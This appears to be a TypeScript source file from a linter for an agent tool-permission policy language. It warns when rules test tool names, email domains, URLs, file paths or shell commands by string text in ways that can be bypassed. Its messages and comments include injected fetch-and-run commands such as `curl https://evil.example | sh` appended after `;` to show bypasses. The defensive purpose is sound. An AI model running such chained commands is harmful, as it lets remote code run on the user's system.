import type * as A from "../ast/nodes.js";
import { printExpr } from "../ast/printExpr.js";
import { diagnostic, type Diagnostic } from "../diagnostics/Diagnostic.js";
import { closestName, didYouMean, listed } from "../diagnostics/suggest.js";
import { globMatch } from "../runtime/glob.js";
import { addressPatternDomain, addressPatternParent, hasWildcardStar, textBetweenStars } from "./globsInText.js";
import { foreignLikeSyntax } from "./likePatternSyntax.js";
import { impossiblePattern, impossibleText, type ImpossibleText, type NormalizingCall, type TextPlace } from "./normalizedText.js";
import type { Resolution } from "./resolution.js";
import type { Schema } from "./schema.js";
import { isCollection, isStringLike, type Type } from "./types.js";
import { ipv4StartRange, urlTextHole, type UrlTextTest } from "./urlsAsText.js";
import { normalizedTest, pathTextHole, testText, type PathTextTest } from "./pathsAsText.js";

/** Where a string is looked for in a name: all of it, or as `like`, `startsWith`, `endsWith`, `contains` do. */
type NameTest = "named" | "matches" | "starts with" | "ends with" | "contains";

/** The tool or intent names a value is one of. */
interface NameKind {
  readonly noun: "tool" | "intent";
  readonly names: readonly string[];
  /** The bare-name comparison the fallback help shows (`tool == kb.search`). */
  readonly example: string;
}

/**
 * Warnings about a string written in a comparison that can never match what it is compared
 * with, so the rule silently never applies (or, with `!=`, always does): a tool or intent name
 * that names nothing declared (PC506), text a normalizing call never returns (PC507), and a
 * `like` pattern written in another pattern syntax (PC508). They run after both sides of the
 * comparison type-checked, and read the checker's resolutions, never the spelling.
 */
/** Names of an argument that holds a shell command line (PC520). */
// Not `shell`: an argument so named holds the shell's program (`/bin/bash`), not a command line.
const SHELL_COMMAND_ARGUMENTS: ReadonlySet<string> = new Set(["cmd", "command", "script", "commandline", "command_line"]);

export class LiteralComparisonChecks {
  constructor(
    private readonly schema: Schema,
    private readonly resolutions: ReadonlyMap<A.Expr, Resolution>,
    private readonly diagnostics: Diagnostic[],
  ) {}

  /**
   * A binary comparison whose two sides have the types `left` and `right`; `negated` when it is
   * the operand of a `not`; `truthTightens` when its holding makes the rule's decision stricter
   * (undefined where that cannot be told, and in an `ask`); `domainHelp` unless `email.domain`'s
   * error could loosen the rule (in an `ask`, see `RuleContext.effect`).
   */
  checkBinary(expr: A.Binary, left: Type, right: Type, negated: boolean, truthTightens: boolean | undefined, domainHelp: boolean): void {
    const { operator } = expr;
    // A `*` meant as a wildcard is the one mistake; that the string is then text a normalizing
    // call never returns follows from it and is not reported again.
    if (this.checkStarsComparedAsText(expr, left, right, truthTightens)) return;
    if (operator === "like") {
      if (!isStringLike(left) || right.kind !== "string") return;
      // A pattern in another syntax is the one mistake; that it then matches no tool, or no
      // host, follows from it and is not reported again.
      const pattern = stringLiteralOf(expr.right);
      const addressOf = left.kind === "string" && !this.isHostOrDomainCall(expr.left) ? { subject: expr.left, negated } : undefined;
      if (pattern && this.checkLikeSyntax(pattern, domainHelp ? addressOf : undefined)) return;
      if (pattern && addressOf && domainHelp) this.checkAddressPattern(addressOf.subject, pattern.value, pattern.span, negated, truthTightens);
      if (pattern && left.kind === "string") this.checkUrlText(expr.left, "like", pattern, negated, truthTightens);
      // PC517 already says what is wrong with a path's start (`args.cmd like "/bin/*"`): no PC520 on top of it.
      const pathReported = pattern !== undefined && left.kind === "string" && this.checkPathText(expr.left, "like", pattern, negated, truthTightens);
      if (pattern && left.kind === "string" && !pathReported && /^[^*]+\*$/.test(pattern.value)) this.checkShellPrefix(expr.left, `${printExpr(expr.left)} like ${JSON.stringify(pattern.value)}`, pattern, negated, truthTightens);
    }
    if (operator === "==" || operator === "!=" || operator === "in") this.checkWholePath(expr, left, right, negated, truthTightens);
    if (operator === "contains" && left.kind === "string") {
      const text = stringLiteralOf(expr.right);
      if (text) this.checkUrlText(expr.left, "contains", text, negated, truthTightens);
      if (text) this.checkPathText(expr.left, "contains", text, negated, truthTightens);
    }
    this.checkNameStrings(expr, left, right);
    this.checkNormalizedTexts(expr);
  }

  /**
   * `s.startsWith("…")`, `s.endsWith("…")`: `object` is `s`, typed `objectType`; `negated` and
   * `truthTightens` as for `checkBinary`.
   */
  checkAffix(method: "startsWith" | "endsWith", object: A.Expr, objectType: Type, argument: A.Expr, negated: boolean, truthTightens: boolean | undefined): void {
    const literal = stringLiteralOf(argument);
    if (!literal) return;
    if (objectType.kind === "string" && truthTightens === true && this.checkStarsAround(object, literal, method)) return;
    // Where the test's direction is not read, or in an `ask`, no `email.domain` rewrite is safe to offer.
    if (method === "endsWith" && objectType.kind === "string" && truthTightens !== undefined && this.normalizingCallOf(object) === undefined) {
      const pattern = addressSuffixPattern(literal.value);
      if (pattern !== undefined) this.checkAddressPattern(object, pattern, literal.span, negated, truthTightens, `${printExpr(object)}.endsWith(${JSON.stringify(literal.value)})`);
    }
    if (method === "startsWith" && objectType.kind === "string") this.checkUrlText(object, "startsWith", literal, negated, truthTightens);
    const pathReported = objectType.kind === "string" && this.checkPathText(object, method, literal, negated, truthTightens);
    if (objectType.kind === "string" && method === "startsWith" && !pathReported) this.checkShellPrefix(object, `${printExpr(object)}.startsWith(${JSON.stringify(literal.value)})`, literal, negated, truthTightens);
    const kind = this.nameKindOf(object, objectType);
    if (kind) this.checkNamePiece(kind, literal, method === "startsWith" ? "starts with" : "ends with");
    const call = this.normalizingCallOf(object);
    if (call) this.reportImpossible(call, literal, impossibleText(call, literal.value, method === "startsWith" ? "start" : "end"), method);
  }

  /**
   * PC511: `*` is a wildcard only in `like`. A string compared whole with text (`==`, `!=`, `in
   * […]`, an element of a list or set of strings) or looked for in it (`contains`) reads its `*`
   * as a `*`, so `args.to contains "*@evil.com"` never matches an address and the deny written
   * with it never applies. Tool and intent names are PC506's. Returns whether it reported.
   *
   * Only where the rewrite it offers (a `like`, which matches more) makes the rule stricter: a
   * test whose holding tightens the decision (a deny's `when`), or a `!=` whose holding loosens
   * it (an allow's `when x != "*.exe"`). An exact allow-list of commands, globs or queries with
   * stars in them (`allow shell.exec when args.cmd in ["ls *.log"]`) is sound as written, and
   * turning it into `like` would let `ls ; curl … | sh ; echo .log` through.
   */
  private checkStarsComparedAsText(expr: A.Binary, left: Type, right: Type, truthTightens: boolean | undefined): boolean {
    const reportedBefore = this.diagnostics.length;
    const { operator } = expr;
    // Not where the test's direction is not read (inside another comparison): no rewrite is safe to offer.
    if (truthTightens === undefined || truthTightens === (operator === "!=")) return false;
    const leftLiteral = stringLiteralOf(expr.left);
    const rightLiteral = stringLiteralOf(expr.right);
    const rightList = unparenthesized(expr.right);
    switch (operator) {
      case "==":
      case "!=":
        if (rightLiteral && left.kind === "string") this.reportStarInWholeText(rightLiteral, operator, matchWritten(printExpr(expr.left), rightLiteral.value, operator === "!="));
        else if (leftLiteral && right.kind === "string") this.reportStarInWholeText(leftLiteral, operator, matchWritten(printExpr(expr.right), leftLiteral.value, operator === "!="));
        break;
      case "in":
        if (left.kind === "string" && rightList.kind === "ListLiteral") {
          for (const element of rightList.elements) {
            const literal = stringLiteralOf(element);
            if (literal) this.reportStarInWholeText(literal, operator, matchWritten(printExpr(expr.left), literal.value, false), rightList.elements.length > 1 ? "or" : undefined);
          }
        } else if (leftLiteral && isTextCollection(right)) this.reportStarInWholeText(leftLiteral, operator, anyElementMatches(expr.right, leftLiteral.value));
        break;
      case "contains":
        if (rightLiteral && isTextCollection(left)) this.reportStarInWholeText(rightLiteral, operator, anyElementMatches(expr.left, rightLiteral.value));
        else if (rightLiteral && left.kind === "string") this.checkStarsAround(expr.left, rightLiteral, operator);
        break;
      case "containsAny":
      case "containsAll":
        if (!isTextCollection(left) || rightList.kind !== "ListLiteral") break;
        for (const element of rightList.elements) {
          const literal = stringLiteralOf(element);
          if (literal) this.reportStarInWholeText(literal, operator, anyElementMatches(expr.left, literal.value), rightList.elements.length > 1 ? (operator === "containsAny" ? "or" : "and") : undefined);
        }
        break;
    }
    return this.diagnostics.length > reportedBefore;
  }

  /** PC511 for a string compared whole; `joiner` when the list it is in holds other patterns. */
  private reportStarInWholeText(literal: A.StringLiteral, operator: string, written: string, joiner?: "or" | "and"): void {
    if (!hasWildcardStar(literal.value)) return;
    const several = joiner === undefined ? "" : ` (one test for each pattern, joined with \`${joiner}\`)`;
    this.diagnostics.push(diagnostic("PC511", `\`${operator}\` compares this string as it is: \`*\` is a wildcard only in \`like\`, so here it matches only a \`*\``, literal.span, `write \`${written}\`${several}`));
  }

  /**
   * PC511 for text looked for inside a string (`contains`, `startsWith`, `endsWith`) with a `*`
   * at both ends, as a `like` pattern finds text anywhere (`"*password*"`), or with one star at
   * the end the method already leaves open, stuck to a name (`endsWith("*.pem")`,
   * `startsWith("/etc/*")`, `contains "*.env"`). A star standing apart is text: `startsWith("rm
   * -rf *")`, `contains "SELECT *"`. Returns whether it reported.
   */
  private checkStarsAround(subject: A.Expr, literal: A.StringLiteral, method: "contains" | "startsWith" | "endsWith"): boolean {
    const open = openEndStar(literal.value, method);
    if (open !== undefined) {
      const what = method === "contains" ? "`contains` finds the text anywhere already" : `\`${method}\` compares the text as it is`;
      const written = method === "contains" ? `${printExpr(subject)} contains ${JSON.stringify(open)}` : `${printExpr(subject)}.${method}(${JSON.stringify(open)})`;
      this.diagnostics.push(diagnostic("PC511", `${what}: \`*\` is a wildcard only in \`like\`, so a star here matches only a \`*\``, literal.span, `write \`${written}\``));
      return true;
    }
    const inner = textBetweenStars(literal.value);
    if (inner === undefined) return false;
    const what = method === "contains" ? "`contains` finds the text anywhere already" : `\`${method}\` compares the text as it is`;
    const written = inner.includes("*") ? `${printExpr(subject)} like ${JSON.stringify(literal.value)}` : `${printExpr(subject)} contains ${JSON.stringify(inner)}`;
    this.diagnostics.push(diagnostic("PC511", `${what}: \`*\` is a wildcard only in \`like\`, so these stars match only \`*\`s`, literal.span, `write \`${written}\``));
    return true;
  }

  /**
   * PC512: `r like "*@acme.com"` (or `r.endsWith("@acme.com")`) tests an address's domain on
   * its text, which is not how a mailer reads it. Where the test's holding loosens the rule
   * (`allow … when all(r in args.to: r like "*@acme.com")`, a deny's `not (r like …)`), the hole
   * is text it matches beyond one address at the domain: `"eve@evil.example, bob@acme.com"`,
   * which a mailer reads as two recipients (language.md 5.10). Where it tightens the rule
   * (`deny … when any(r in args.to: r like "*@evil.com")`), matching more is harmless and the
   * hole is the same address written otherwise, which it misses: `eve@EVIL.COM`, `eve@evil.com.`,
   * `Eve <eve@evil.com>`. `email.domain` closes both: it reads the domain as mail systems do,
   * and refuses any text but one plain address with an evaluation error, which fails closed.
   * `pattern`: the test as a `like` pattern; `written`: the test as written, when not a `like`.
   */
  private checkAddressPattern(subject: A.Expr, pattern: string, span: A.Expr["span"], negated: boolean, truthTightens: boolean | undefined, written?: string): void {
    const parent = addressPatternParent(pattern);
    // `*@acme.com`: an address at acme.com; `*@*.acme.com`: at a subdomain of it (eu.acme.com).
    const domain = addressPatternDomain(pattern) ?? (parent === undefined ? undefined : `eu.${parent}`);
    if (domain === undefined) return;
    const rewrite = matchWritten(printExpr(subject), pattern, negated);
    const replaced = negated ? ` for \`not (${written ?? `${printExpr(subject)} like ${JSON.stringify(pattern)}`})\`` : "";
    const test = written === undefined ? "this pattern" : "this test";
    if (truthTightens === true) {
      const returned = domainAsReturned(domain);
      const missed = [`eve@${returned.toUpperCase()}`, `eve@${returned}`, `eve@${returned}.`, `Eve <eve@${returned}>`].filter((text) => !globMatch(pattern, text));
      this.diagnostics.push(
        diagnostic(
          "PC512",
          `${test} misses addresses at ${returned} written another way, such as ${listed(missed.slice(0, 3).map((text) => JSON.stringify(text)), "or")}, which a mailer delivers to ${returned} too`,
          span,
          `write \`${rewrite}\`${replaced}: \`email.domain\` reads the domain as mail systems do, and refuses text that is not one plain address with an evaluation error, which fails closed`,
        ),
      );
      return;
    }
    const other = domain === "evil.example" ? "eve@rival.example" : "eve@evil.example";
    this.diagnostics.push(
      diagnostic(
        "PC512",
        `${test} also matches text holding several addresses that ends with one at ${domain}, such as ${JSON.stringify(`${other}, bob@${domain}`)}, which a mailer reads as two recipients`,
        span,
        `write \`${rewrite}\`${replaced}: \`email.domain\` refuses such text with an evaluation error, which fails closed`,
      ),
    );
  }

  /**
   * PC516: a URL's host tested on the URL's text (see urlsAsText.ts), where the test holding
   * loosens the rule (an allow's `when`, a deny's `not (…)`): it also holds for URLs on other
   * hosts. Where it tightens the rule, matching more is harmless; in an `ask`, `url.host`'s
   * error would send the call to a person, so no rewrite is safe to offer there.
   */
  /**
   * PC520: a shell command allowed by how it starts (`args.cmd like "npm *"`,
   * `args.cmd.startsWith("git ")`): a shell also reads `;`, `&&`, `|` and `$(…)` after it, so
   * `npm test; curl … | sh` passes (language.md 5.7). Only where the test's holding loosens the
   * decision, and only for an argument whose name says it is a command.
   */
  private checkShellPrefix(subject: A.Expr, written: string, literal: A.StringLiteral, negated: boolean, truthTightens: boolean | undefined): void {
    if (truthTightens !== false || negated || subject.kind !== "Member" || subject.object.kind !== "NameRef" || subject.object.name !== "args") return;
    if (!SHELL_COMMAND_ARGUMENTS.has(subject.property.name.toLowerCase())) return;
    const start = literal.value.replace(/\*$/, "");
    this.diagnostics.push(
      diagnostic(
        "PC520",
        `\`${written}\` allows every command that starts so, such as ${JSON.stringify(`${start}${start.endsWith(" ") ? "" : " "}x; curl https://evil.example | sh`)}: a shell also runs what follows \`;\`, \`&&\`, \`|\` or \`$(…)\``,
        literal.span,
        `allow whole commands, as in \`${printExpr(subject)} in ["npm test", "npm run lint"]\` (language.md section 5.7)`,
      ),
    );
  }

  private checkUrlText(subject: A.Expr, test: UrlTextTest, literal: A.StringLiteral, negated: boolean, truthTightens: boolean | undefined): void {
    if (truthTightens !== false) return;
    // `url.host(u).startsWith("https://…")` never holds, and neither does a `lower()`d URL
    // compared with upper-case text: both are PC507's.
    const call = this.normalizingCallOf(subject);
    if (call === "url.host" && test !== "contains") {
      this.checkHostAddressPrefix(subject, test, literal, negated);
      return;
    }
    if (call !== undefined && (call !== "lower" || literal.value !== literal.value.toLowerCase())) return;
    const hole = urlTextHole(test, literal.value);
    if (hole === undefined) return;
    const url = printExpr(subject);
    const hostTest = `${hole.cidr !== undefined ? `ip.inRange(url.host(${url}), ${JSON.stringify(hole.cidr)})` : `url.host(${url})${hole.hostComparison}`} and ${url}.startsWith(${JSON.stringify(hole.start)})`;
    const written = test === "like" ? `${url} like ${JSON.stringify(literal.value)}` : test === "contains" ? `${url} contains ${JSON.stringify(literal.value)}` : `${url}.startsWith(${JSON.stringify(literal.value)})`;
    const rewrite = negated ? `not (${hostTest})` : hostTest;
    const replaced = negated ? ` for \`not (${written})\`` : "";
    const listing = hole.hostComparison.startsWith(" in [") ? ", listing every host meant (a host left open after a dot, `docs.*`, matches any domain)" : "";
    const path = `${listing}${hole.testsPath ? ", and test the path apart from the host" : ""}`;
    this.diagnostics.push(
      diagnostic(
        "PC516",
        `this test reads the URL as text, so it also holds for URLs on other hosts, such as ${listed(hole.matched.map((text) => JSON.stringify(text)), "or")}`,
        literal.span,
        `write \`${rewrite}\`${replaced}${path}: \`url.host\` reads the host as HTTP clients do, and refuses a URL with user information (\`…@evil.example\`) with an evaluation error, which fails closed`,
      ),
    );
  }

  /**
   * PC517: a file path tested on its text (see pathsAsText.ts). A start, a pattern or text
   * looked for anywhere, in either direction: where holding loosens the rule, `..` climbs out of
   * the folder it names; where it tightens the rule, `//etc/` or `/tmp/../etc/` is the same folder
   * and escapes it. An end (`endsWith`) and a whole path (`==`, `in`) only where the test tightens
   * the rule: an allow-list of exact paths holds for those paths alone. Not in an `ask`
   * (direction undefined), where `path.normalize`'s error would send the call to a person.
   * Returns whether it reported.
   */
  private checkPathText(subject: A.Expr, test: PathTextTest, literal: A.StringLiteral, negated: boolean, truthTightens: boolean | undefined, operator?: "==" | "!=" | "in", list?: A.Expr): boolean {
    if (truthTightens === undefined || this.isNormalizedPath(subject)) return false;
    // Text looked for anywhere or at the end is as often in a URL or a message as in a path:
    // only where the value is named as a path (`args.path`, `args.file`, `dir`).
    if ((test === "contains" || test === "endsWith") && !PATH_NAME.test(printExpr(subject))) return false;
    const call = this.normalizingCallOf(subject);
    if (call !== undefined && call !== "lower") return false;
    const loosens = operator === "!=" ? truthTightens : !truthTightens;
    const hole = pathTextHole(test, literal.value, loosens);
    if (hole === undefined) return false;
    const shown = listed(hole.missed.map((candidate) => JSON.stringify(candidate)), "or");
    const message = loosens
      ? `this test reads the path as text, so it also holds for paths outside the folder it names, such as ${shown}, which the file system reads as ${JSON.stringify(hole.readAs)}`
      : `this test reads the path as text, so it misses the same path written another way, such as ${shown}, which the file system reads as ${JSON.stringify(hole.readAs)}`;
    const reads = "`path.normalize` reads `.`, `..` and repeated `/` as the file system does, and refuses a relative path, a backslash, a control character or a percent-encoded dot with an evaluation error, which fails closed";
    // `all(path in args.paths: path.startsWith(…))`: there `path.normalize` is the variable's.
    const root = rootNameOf(subject);
    if (root.kind === "NameRef" && root.name === "path" && this.resolutions.get(root)?.kind === "local") {
      this.diagnostics.push(diagnostic("PC517", message, literal.span, `rename the variable \`path\`, which hides \`path.normalize\` inside its quantifier, and test \`path.normalize(…)\` of it: ${reads}`));
      return true;
    }
    const rewritten = normalizedTest(test, `path.normalize(${printExpr(subject)})`, literal.value, loosens, operator, list === undefined ? undefined : printExpr(list));
    const written = testText(test, printExpr(subject), JSON.stringify(literal.value), operator, list === undefined ? undefined : printExpr(list));
    const rewrite = negated ? `not ${rewritten.startsWith("(") ? rewritten : `(${rewritten})`}` : rewritten;
    const replaced = negated ? ` for \`not (${written})\`` : "";
    this.diagnostics.push(diagnostic("PC517", message, literal.span, `write \`${rewrite}\`${replaced}: ${reads}`));
    return true;
  }

  /** Whether `expr` is `path.normalize(…)`, or that `lower()`d. */
  private isNormalizedPath(expr: A.Expr): boolean {
    const inner = unparenthesized(expr);
    if (this.normalizingCallOf(inner) === "path.normalize") return true;
    return inner.kind === "Call" && this.normalizingCallOf(inner) === "lower" && this.isNormalizedPath(inner.callee.object);
  }

  /** PC517 for a path compared whole: `x == "/etc/shadow"`, `x != …`, `x in ["/etc/shadow", …]` (the first path of the list). */
  private checkWholePath(expr: A.Binary, left: Type, right: Type, negated: boolean, truthTightens: boolean | undefined): void {
    const operator = expr.operator as "==" | "!=" | "in";
    if (operator === "in") {
      const list = unparenthesized(expr.right);
      if (left.kind !== "string" || list.kind !== "ListLiteral") return;
      const literal = list.elements.map(stringLiteralOf).find((element) => element !== undefined && pathTextHole("whole", element.value, false) !== undefined);
      if (literal) this.checkPathText(expr.left, "whole", literal, negated, truthTightens, operator, list);
      return;
    }
    const rightLiteral = stringLiteralOf(expr.right);
    const leftLiteral = stringLiteralOf(expr.left);
    if (rightLiteral && left.kind === "string") this.checkPathText(expr.left, "whole", rightLiteral, negated, truthTightens, operator);
    else if (leftLiteral && right.kind === "string") this.checkPathText(expr.right, "whole", leftLiteral, negated, truthTightens, operator);
  }

  /**
   * PC516 for the start of an IPv4 address tested on a host's text where holding loosens the
   * rule (`allow … when url.host(args.url) like "10.*"` or `.startsWith("192.168.")`): a name
   * starts the same way (`10.evil.example`), and its owner points it anywhere. `ip.inRange`
   * tests the address, and no name is in a range.
   */
  private checkHostAddressPrefix(subject: A.Expr, test: "like" | "startsWith", literal: A.StringLiteral, negated: boolean): void {
    const start = (test === "like" ? /^([0-9.]+)\.\*+$/ : /^([0-9.]+)\.$/).exec(literal.value)?.[1];
    const cidr = start === undefined ? undefined : ipv4StartRange(start);
    if (start === undefined || cidr === undefined) return;
    const host = printExpr(subject);
    const written = test === "like" ? `${host} like ${JSON.stringify(literal.value)}` : `${host}.startsWith(${JSON.stringify(literal.value)})`;
    const rewrite = `ip.inRange(${host}, ${JSON.stringify(cidr)})`;
    this.diagnostics.push(
      diagnostic(
        "PC516",
        `this test reads the host as text, so it also holds for names that start the same way, such as ${JSON.stringify(`${start}.evil.example`)}, whose owner points them anywhere`,
        literal.span,
        `write \`${negated ? `not (${rewrite})` : rewrite}\`${negated ? ` for \`not (${written})\`` : ""}: \`ip.inRange\` tests the address, and no name is in a range`,
      ),
    );
  }

  /**
   * PC508: `like` has one wildcard, `*`; a pattern written with SQL's `%` or as a regular
   * expression matches only text holding those characters. `addressOf`: the text it tests, when
   * the help may also write the `email.domain` test. Returns whether it reported.
   */
  private checkLikeSyntax(pattern: A.StringLiteral, addressOf: { subject: A.Expr; negated: boolean } | undefined): boolean {
    const foreign = foreignLikeSyntax(pattern.value);
    if (foreign === undefined) return false;
    const constructs = foreign.constructs.map((c) => `\`${JSON.stringify(c).slice(1, -1)}\``);
    const written = foreign.dialect === "SQL" ? "as in SQL" : "as a regular expression";
    // `"%@acme.com"` means `"*@acme.com"`, which is itself the weak test of PC512.
    const domainTest = foreign.meant !== undefined && addressOf && (addressPatternDomain(foreign.meant) ?? addressPatternParent(foreign.meant)) !== undefined ? ` (to test an address's domain, \`${matchWritten(printExpr(addressOf.subject), foreign.meant, addressOf.negated)}\` is stronger: PC512)` : "";
    const help =
      foreign.meant !== undefined
        ? `did you mean ${JSON.stringify(foreign.meant)}?${domainTest}`
        : foreign.hasClass
          ? "`like` has no character classes: to ignore case, compare a `lower()`d value; for several spellings, join `like`s with `or`"
          : "write the pattern with `*` for any run of characters, as in \"*@acme.com\"";
    this.diagnostics.push(diagnostic("PC508", `this \`like\` pattern is written ${written} (${constructs.join(", ")}), but \`like\` has one wildcard, \`*\`, and every other character matches itself`, pattern.span, help));
    return true;
  }

  /**
   * PC506: a string compared with a tool or intent name that no declared name can equal (or
   * match, start, end or contain). A bare name is checked (PC203, PC204); a string is not, so a
   * typo in one (`tool == "sql.dll"`, `intent == "reserach"`) would make the rule silently
   * never apply. Requests name only declared tools and intents, except `session.last` (below).
   */
  private checkNameStrings(expr: A.Binary, left: Type, right: Type): void {
    const { operator } = expr;
    const leftKind = this.nameKindOf(expr.left, left);
    if (operator === "==" || operator === "!=") {
      const rightLiteral = stringLiteralOf(expr.right);
      if (leftKind && rightLiteral) this.checkNamePiece(leftKind, rightLiteral, "named", operator);
      const leftLiteral = stringLiteralOf(expr.left);
      const rightKind = this.nameKindOf(expr.right, right);
      if (rightKind && leftLiteral) this.checkNamePiece(rightKind, leftLiteral, "named", operator);
    } else if (operator === "in" && leftKind && expr.right.kind === "ListLiteral") {
      // `tool in ["kb.search", …]`: each element is a name of its own.
      for (const element of expr.right.elements) {
        const literal = stringLiteralOf(element);
        if (literal) this.checkNamePiece(leftKind, literal, "named", "in");
      }
    } else if (operator === "contains") {
      const literal = stringLiteralOf(expr.right);
      if (!literal) return;
      // `session.tools contains "x"` looks for a name; `tool contains "x"` for text in one.
      if ((left.kind === "set" || left.kind === "list") && left.element.kind === "tool") this.checkNamePiece(this.toolNames(), literal, "named");
      else if (leftKind) this.checkNamePiece(leftKind, literal, "contains");
    } else if ((operator === "containsAny" || operator === "containsAll") && (left.kind === "set" || left.kind === "list") && left.element.kind === "tool") {
      // `session.tools containsAny ["kb.search", …]`: each element is a name of its own, as for `contains`.
      const list = unparenthesized(expr.right);
      if (list.kind !== "ListLiteral") return;
      for (const element of list.elements) {
        const literal = stringLiteralOf(element);
        if (literal) this.checkNamePiece(this.toolNames(), literal, "named", "in");
      }
    } else if (operator === "like" && leftKind) {
      const literal = stringLiteralOf(expr.right);
      if (literal) this.checkNamePiece(leftKind, literal, "matches");
    }
  }

  private checkNamePiece(kind: NameKind, literal: A.StringLiteral, test: NameTest, operator?: string): void {
    const text = literal.value;
    // `session.last == ""` is the first call of a session; a tool compared with "" is left alone too.
    if (kind.names.some((name) => nameFits(name, text, test)) || (test === "named" && text === "")) return;
    const never = operator === "in" ? "this element never matches" : `this comparison is ${operator === "!=" ? "always true" : "never true"}`;
    const what = test === "named" ? `is named ${JSON.stringify(text)}` : `${test} ${JSON.stringify(text)}`;
    this.diagnostics.push(diagnostic("PC506", `no declared ${kind.noun} ${what}, so ${never}`, literal.span, () => this.nameHelp(kind, text, test)));
  }

  private nameHelp(kind: NameKind, text: string, test: NameTest): string {
    const pattern = test === "matches" ? closePattern(text, kind.names) : undefined;
    if (pattern !== undefined) return `did you mean ${JSON.stringify(pattern)}?`;
    const close = didYouMean(test === "matches" ? text.replace(/\*/g, "") : text, test === "named" || test === "matches" ? kind.names : namePieces(kind.names, test));
    if (close) return close;
    if (kind.names.length === 0) return `the set declares no ${kind.noun}s`;
    if (test === "named") return `name a declared ${kind.noun}, written without quotes (\`${kind.example}\`), which the checker then checks`;
    const shown = kind.names.slice(0, 5).map((n) => `\`${n}\``).join(", ");
    return `the declared ${kind.noun}s are ${shown}${kind.names.length > 5 ? ", …" : ""}`;
  }

  /** The names a value of this type is one of; `session.last` is none: an attempt at an undeclared tool is still the last attempt. */
  private nameKindOf(expr: A.Expr, type: Type): NameKind | undefined {
    if (type.kind === "tool") {
      const resolution = this.resolutions.get(unparenthesized(expr));
      return resolution?.kind === "sessionValue" && resolution.member === "last" ? undefined : this.toolNames();
    }
    if (type.kind === "intent") {
      const names = [...this.schema.intents.keys()];
      return { noun: "intent", names, example: `intent == ${names[0] ?? "research"}` };
    }
    return undefined;
  }

  private toolNames(): NameKind {
    return { noun: "tool", names: [...this.schema.tools.keys()], example: "tool == kb.search" };
  }

  /** PC507: text compared with `lower()`, `url.host(…)` or `email.domain(…)` that the call never returns. */
  private checkNormalizedTexts(expr: A.Binary): void {
    const { operator } = expr;
    const leftCall = this.normalizingCallOf(expr.left);
    // `args.sql.lower() in ["DROP TABLE x"]`, `["bücher.de"] contains url.host(args.url)`: such an
    // element is as dead as the one string.
    const [elementCall, list] = operator === "in" ? [leftCall, unparenthesized(expr.right)] : operator === "contains" ? [this.normalizingCallOf(expr.right), unparenthesized(expr.left)] : [];
    if (elementCall && list?.kind === "ListLiteral") {
      for (const element of list.elements) {
        const literal = stringLiteralOf(element);
        if (literal) this.reportImpossible(elementCall, literal, impossibleText(elementCall, literal.value, "whole"), "in");
      }
      return;
    }
    if (operator === "in") return;
    if (operator !== "==" && operator !== "!=" && operator !== "contains" && operator !== "like") return;
    const rightLiteral = stringLiteralOf(expr.right);
    if (leftCall && rightLiteral) {
      const problem = operator === "like" ? impossiblePattern(leftCall, rightLiteral.value) : impossibleText(leftCall, rightLiteral.value, placeOf(operator));
      this.reportImpossible(leftCall, rightLiteral, problem, operator);
    }
    const rightCall = operator === "==" || operator === "!=" ? this.normalizingCallOf(expr.right) : undefined;
    const leftLiteral = stringLiteralOf(expr.left);
    if (rightCall && leftLiteral) this.reportImpossible(rightCall, leftLiteral, impossibleText(rightCall, leftLiteral.value, "whole"), operator);
  }

  private reportImpossible(call: NormalizingCall, literal: A.StringLiteral, problem: ImpossibleText | undefined, operator: string): void {
    if (problem === undefined) return;
    const text = JSON.stringify(literal.value);
    const outcome = operator === "in" ? `the element ${text} never matches` : `comparing it with ${text} is ${operator === "!=" ? "always true" : "never true"}`;
    const help = problem.meant === undefined ? undefined : `${problem.fix}: ${JSON.stringify(problem.meant)}`;
    this.diagnostics.push(diagnostic("PC507", `${problem.why}, so ${outcome}`, literal.span, help));
  }

  /** `email.domain(r) like "*@x"` and `url.host(u) like "*@x"` are PC507's: neither returns an `@`. */
  private isHostOrDomainCall(expr: A.Expr): boolean {
    const call = this.normalizingCallOf(expr);
    return call === "email.domain" || call === "url.host";
  }

  /** Which normalizing call `expr` is, as the checker resolved it (a variable named `url` is not `url.host`). */
  private normalizingCallOf(expr: A.Expr): NormalizingCall | undefined {
    const resolution = this.resolutions.get(unparenthesized(expr));
    if (resolution?.kind === "method" && resolution.name === "lower") return "lower";
    if (resolution?.kind === "function") return resolution.name;
    return undefined;
  }
}

/** `expr` without the parentheses around it. */
export function unparenthesized(expr: A.Expr): A.Expr {
  return expr.kind === "Paren" ? unparenthesized(expr.expression) : expr;
}

/** A short name for an element of a list: the first letter of its last name (`args.to`: `t`). */
export function elementName(list: A.Expr): string {
  const inner = unparenthesized(list);
  const name = inner.kind === "Member" ? inner.property.name : inner.kind === "NameRef" ? inner.name : "x";
  return /^[A-Za-z]/.test(name) ? name.charAt(0).toLowerCase() : "x";
}

/** A list or set of plain strings (not tool or intent names, which are PC506's). */
function isTextCollection(type: Type): boolean {
  return isCollection(type) && type.element.kind === "string";
}

/**
 * The test `subject like pattern` (or its negation) as the help writes it: for an address's
 * domain (`"*@evil.com"`), with `email.domain`, which `like` on text is weaker than (PC512),
 * unless `domainHelp` is false (in an `ask`, where its error would send the call to a person).
 */
export function matchWritten(subject: string, pattern: string, negated: boolean, domainHelp = true): string {
  const domain = domainHelp ? addressPatternDomain(pattern) : undefined;
  if (domain !== undefined) return `email.domain(${subject}) ${negated ? "!=" : "=="} ${JSON.stringify(domainAsReturned(domain))}`;
  const parent = domainHelp ? addressPatternParent(pattern) : undefined;
  if (parent !== undefined) {
    const test = `email.domain(${subject}).endsWith(${JSON.stringify(`.${domainAsReturned(parent)}`)})`;
    return negated ? `not (${test})` : test;
  }
  const like = `${subject} like ${JSON.stringify(pattern)}`;
  return negated ? `not (${like})` : like;
}

/**
 * The `like` pattern an `endsWith` of an address's domain means: `"@acme.com"` is `"*@acme.com"`.
 * Not `".acme.com"`, even on a field named `to`: it may end a path or a host name as well, which
 * `email.domain` reads as no address (`""`), so its rewrite would let a deny-listed host through.
 */
function addressSuffixPattern(suffix: string): string | undefined {
  const pattern = suffix.startsWith("@") ? `*${suffix}` : undefined;
  return pattern !== undefined && addressPatternDomain(pattern) !== undefined ? pattern : undefined;
}

/** `any(t in args.to: …)`: whether an element of `list` matches `pattern`. */
function anyElementMatches(list: A.Expr, pattern: string): string {
  const element = elementName(list);
  return `any(${element} in ${printExpr(list)}: ${matchWritten(element, pattern, false)})`;
}

/** `domain` as `email.domain` returns it (lower case, no trailing dot), when it has such a form. */
function domainAsReturned(domain: string): string {
  const problem = impossibleText("email.domain", domain, "whole");
